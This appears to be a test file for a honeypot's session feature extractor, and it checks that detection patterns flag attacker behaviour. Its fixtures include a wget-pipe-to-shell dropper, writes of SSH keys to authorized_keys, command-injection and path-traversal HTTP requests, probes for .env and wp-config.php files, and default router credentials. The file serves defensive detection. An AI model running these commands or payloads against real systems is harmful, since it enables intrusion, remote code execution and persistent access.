-- ===== src/Features/Tests.antt =====
-- The extraction at concrete sessions.
use echidra_oss.Python.Base64.Encode.{b64encode}
use echidra_oss.Features.Requests.BasicAuth.{basic_auth_pair-encode}
use echidra_oss.Features.Requests.SensitivePath.{HasMarker, is_sensitive_path_iff}
use echidra_oss.Telnet.Burst.{IsCredentialPair, handle_burst}
use echidra_oss.Features.Extract.TelnetBurst.{extract_session_features-burst}
use echidra_oss.Features.Extract.Credentials.{
  command_flags, without_credentials, extract_session_features-without_credentials,
}
use echidra_oss.Features.Extract.Counts.{AreCountsOf, extract_session_features-AreCountsOf}
use echidra_oss.Features.Extract.{extract_session_features}
use echidra_oss.Features.Timing.Nearest.{IsScoreOf, human_timing_score-IsScoreOf}
use echidra_oss.Features.Timing.{human_timing_score, average_of}
use echidra_oss.Python.Regex.{search_in, found_in, starts}
use echidra_oss.Python.Split.{split_once, split_from, split_on, split_words, words_from, lower}
use echidra_oss.Base.{
  ℕ, String, List, [], ◌∷◌, true, ◌≡◌, refl, all, not, Bool, false, length, All, some, none, ◌++◌,
  ◌↔◌, sym, arith,
}
use echidra_oss.Base.Text.{codes, is_space, Text}
use echidra_oss.Features.State.{nothing_seen, Extraction}
use echidra_oss.Features.Events.{
  note_all, note_event, note_line, note_counts, note_command, note_http, note_credentials,
  note_login_line, behind_colon_space,
}
use echidra_oss.Python.Regex.{Regex, search_in, found_in, starts}
use echidra_oss.Features.Patterns.{
  run_fetched_pattern, authorized_keys_write_pattern, system_binary_read_pattern,
  ftp_other_protocol_pattern, http_injected_command_pattern, sensitive_path_marker_pattern,
}
use echidra_oss.Features.Requests.{
  parse_command, http_request_target, basic_auth_pair, extract_http_credential_pair, field_value,
  first_value, http_probe_target, is_sensitive_path, product_of,
}
use echidra_oss.Python.Shlex.{shlex_split, read_all}
use echidra_oss.Python.Base64.{b64decode}
use echidra_oss.Python.Url.{unquote, decode_runs, parse_qsl, percent_from, unquote_plus}
use echidra_oss.Python.Utf8.{decode, decode_replace, put_bytes}
use echidra_oss.Session.{CommandEvent, SessionRecord, is_consistent, commands_fit, are_distinct}

abbrev at : ℕ → String → CommandEvent
at time line = record { cmd = codes line; timestamp = time }

abbrev dropper : List CommandEvent
dropper =
    at 0 "login: root"
    ∷ at 1 "password: wget x"
    ∷ at 2 "cd /tmp; wget http://a.b/x.sh -O- | sh"
    ∷ []

dropper_pair : (note_all "telnet" dropper nothing_seen).telnet.tried ≡ codes "root:wget x" ∷ []
unfolding note_all note_event note_line note_counts note_command is_space note_http note_credentials
    note_login_line split_once
dropper_pair = refl

dropper_runs : (note_all "telnet" dropper nothing_seen).remote_fetch_seen ≡ true
unfolding note_all note_event note_line note_counts note_command is_space note_http note_credentials
    search_in found_in starts
dropper_runs = refl

abbrev bool_eq : Bool → Bool → Bool
bool_eq true b = b
bool_eq false b = not b

-- Whether a search says what is expected of it.
abbrev says : Bool → Regex → List String → Bool
says expected pattern lines = all (λ line. bool_eq expected (search_in pattern (codes line))) lines

run_found :
    says true run_fetched_pattern (
      "x | sh" ∷ "x|bash -x" ∷ "chmod +x a" ∷ "chmod u+rwx a" ∷ "chmod 777 a" ∷ "chmod 0755 a" ∷ [])
    ≡ true
unfolding search_in found_in starts is_space
run_found = refl

run_not_found :
    says false run_fetched_pattern ("x | shuf" ∷ "chmod 400 key" ∷ "chmod -x a" ∷ "sh" ∷ []) ≡ true
unfolding search_in found_in starts is_space
run_not_found = refl

keys_found :
    says true authorized_keys_write_pattern (
      "echo k >> ~/.ssh/authorized_keys" ∷ "echo k >'/root/.ssh/authorized_keys2'"
      ∷ "echo k | tee -a authorized_keys" ∷ [])
    ≡ true
unfolding search_in found_in starts is_space
keys_found = refl

keys_not_found :
    says false authorized_keys_write_pattern (
      "cat ~/.ssh/authorized_keys" ∷ "chmod 600 authorized_keys" ∷ "echo k > authorized_keys.bak"
      ∷ [])
    ≡ true
unfolding search_in found_in starts is_space
keys_not_found = refl

binary_found :
    says true system_binary_read_pattern
      ("cat /bin/echo" ∷ "/bin/busybox cat /usr/bin/ls" ∷ "cat -n /sbin/init" ∷ [])
    ≡ true
unfolding search_in found_in starts is_space
binary_found = refl

binary_not_found :
    says false system_binary_read_pattern
      ("cat /bin/../etc/passwd" ∷ "cat /home/bin/ls" ∷ "tomcat /bin/ls" ∷ [])
    ≡ true
unfolding search_in found_in starts is_space
binary_not_found = refl

ftp_probe_found :
    says true ftp_other_protocol_pattern
      ("get / http/1.1" ∷ "ssh-2.0-go" ∷ "[tls handshake]" ∷ "x mstshash=a" ∷ [])
    ≡ true
unfolding search_in found_in starts is_space
ftp_probe_found = refl

injection_found :
    says true http_injected_command_pattern (
      "post /x: a=1;wget http://h/x" ∷ "get /?a=`busybox  wget x`" ∷ "get /runtime.getruntime("
      ∷ [])
    ≡ true
unfolding search_in found_in starts is_space
injection_found = refl

injection_not_found :
    says false http_injected_command_pattern ("get /?curl=1" ∷ "get /a wget x" ∷ []) ≡ true
unfolding search_in found_in starts
injection_not_found = refl

path_found :
    says true sensitive_path_marker_pattern
      ("/.env" ∷ "/.env.local" ∷ "/srv/backups/x" ∷ "/wp-config.php" ∷ [])
    ≡ true
unfolding search_in found_in starts
path_found = refl

path_not_found :
    says false sensitive_path_marker_pattern
      ("/.github/workflows" ∷ "shadowsocks" ∷ "/index.html" ∷ [])
    ≡ true
unfolding search_in found_in starts
path_not_found = refl

abbrev web : List CommandEvent
web =
    at 0 "GET /boaform/admin/formLogin?username=Admin&psd=a%20b HTTP/1.1"
    ∷ at 1 "Authorization: Basic YWRtaW46UEFTUw=="
    ∷ at 2 "User-Agent: sqlmap/1.0"
    ∷ at 3 "POST /wp-login.php HTTP/1.1"
    ∷ at 4 "POST /wp-login.php: log=x&pwd=&pass=Y"
    ∷ at 5 "GET /%2e%2e/%252e%252e/etc/passwd HTTP/1.1"
    ∷ at 6 "GET /MCP/ HTTP/1.1"
    ∷ []

abbrev web_seen : Extraction
web_seen = note_all "http" web nothing_seen

web_run :
    (web_seen.http_credentials_tried ≡ codes "admin:a b" ∷ codes "admin:pass" ∷ codes "x:y" ∷ [])
    × (web_seen.auth_attempt_count ≡ 3)
    × (web_seen.http_path_traversal_attempt ≡ true)
    × (web_seen.http_known_scanner_user_agent ≡ true)
    × (web_seen.http_probe_targets ≡ codes "mcp_server" ∷ [])
unfolding note_all note_event note_line note_counts note_command is_space note_http parse_command
    shlex_split read_all http_request_target split_once note_credentials search_in found_in starts
    unquote behind_colon_space basic_auth_pair extract_http_credential_pair field_value first_value
    http_probe_target is_sensitive_path product_of b64decode split_from split_on split_words
    words_from decode_runs parse_qsl percent_from unquote_plus decode decode_replace put_bytes
web_run = (refl, refl, refl, refl, refl)

human_timing_score-IsScoreOf_example :
    IsScoreOf (2000000 ∷ 1500000 ∷ []) (human_timing_score (average_of (2000000 ∷ 1500000 ∷ [])))
human_timing_score-IsScoreOf_example = human_timing_score-IsScoreOf (2000000 ∷ 1500000 ∷ [])

abbrev record_with : String → List CommandEvent → SessionRecord
record_with protocol commands = record {
  schema_version = 1;
  session_id = "4fb5e8f4-0000-4000-8000-000000000000";
  protocol = protocol;
  peer_ip = some "203.0.113.9";
  peer_port = some 40112;
  has_latitude = false;
  has_longitude = false;
  persona_id = "router";
  started_at = 0;
  ended_at = 9;
  duration_seconds = 9;
  end_reason = "disconnect";
  command_count = length commands;
  commands = commands;
  decoy_files_surfaced = [];
  client_version = none;
  end_stage = none;
  end_error = none;
}

abbrev dropper_record : SessionRecord
dropper_record = record_with "telnet" dropper

dropper_consistent : is_consistent dropper_record ≡ true
unfolding is_consistent commands_fit are_distinct
dropper_consistent = refl

extract_session_features-AreCountsOf_example :
    AreCountsOf (extract_session_features dropper_record none) (length dropper)
extract_session_features-AreCountsOf_example =
    extract_session_features-AreCountsOf dropper_record none dropper_consistent

extract_session_features-without_credentials_example :
    command_flags (extract_session_features dropper_record none)
    ≡ command_flags (extract_session_features (without_credentials dropper_record) none)
extract_session_features-without_credentials_example =
    extract_session_features-without_credentials dropper_record none

abbrev two_tries : List (Text × Text)
two_tries = (codes "root", codes "XC3511") ∷ (codes "Admin", codes "1234") ∷ []

two_tries-valid : All IsCredentialPair two_tries
two_tries-valid = (
  (
    (refl, (refl, (refl, (refl, tt)))),
    refl,
    (refl, (refl, (refl, (refl, (refl, (refl, tt)))))),
    refl,
  ),
  (
    ((refl, (refl, (refl, (refl, (refl, tt))))), refl, (refl, (refl, (refl, (refl, tt)))), refl),
    tt,
  ),
)

abbrev tries_record : SessionRecord
tries_record = record_with "telnet" (
    at 1 "login: root" ∷ at 2 "password: XC3511" ∷ at 3 "login: Admin" ∷ at 4 "password: 1234" ∷ [])

extract_session_features-burst_example :
    (extract_session_features tries_record none).telnet_credentials_tried
    ≡ codes "root:xc3511" ∷ codes "admin:1234" ∷ []
extract_session_features-burst_example =
    extract_session_features-burst (codes "Linux") (codes "router login: ") two_tries tries_record
      none (omega arith) (omega arith) two_tries-valid refl
      (sym
        (handle_burst (codes "Linux") (codes "router login: ") two_tries (omega arith) (omega arith)
          two_tries-valid).1)

is_sensitive_path_iff_example :
    (is_sensitive_path (codes "/srv/Backups/db.sql") ≡ true)
    ↔ HasMarker (lower (codes "/srv/Backups/db.sql"))
is_sensitive_path_iff_example = is_sensitive_path_iff (codes "/srv/Backups/db.sql")

basic_auth_pair-encode_example :
    basic_auth_pair (codes " Basic " ++ b64encode (codes "Admin:pa:Ss"))
    ≡ some (codes "admin:pa:ss")
basic_auth_pair-encode_example =
    basic_auth_pair-encode (codes "Admin:pa:Ss")
      (refl, (refl, (refl, (refl, (refl, (refl, (refl, (refl, (refl, (refl, (refl, tt)))))))))))
      refl
